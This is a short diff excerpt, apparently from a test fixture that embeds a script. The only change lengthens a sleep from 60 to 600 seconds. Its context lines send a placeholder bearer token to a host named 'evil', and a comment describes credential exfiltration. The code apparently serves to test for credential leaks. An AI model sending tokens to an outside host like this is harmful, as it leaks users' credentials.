@@ -331,7 +331,7 @@ if placeholder != "none":
     ]:
         tell("placeholder in " + name, ask(raw) if raw else ask(get("/v1/all", "Authorization: Bearer " + placeholder, host=evil), evil))
 print("done", flush=True)
-time.sleep(60)
+time.sleep(600)
 `
 
 // exfiltration is a credential that a plugin and an API try to get out, and where the
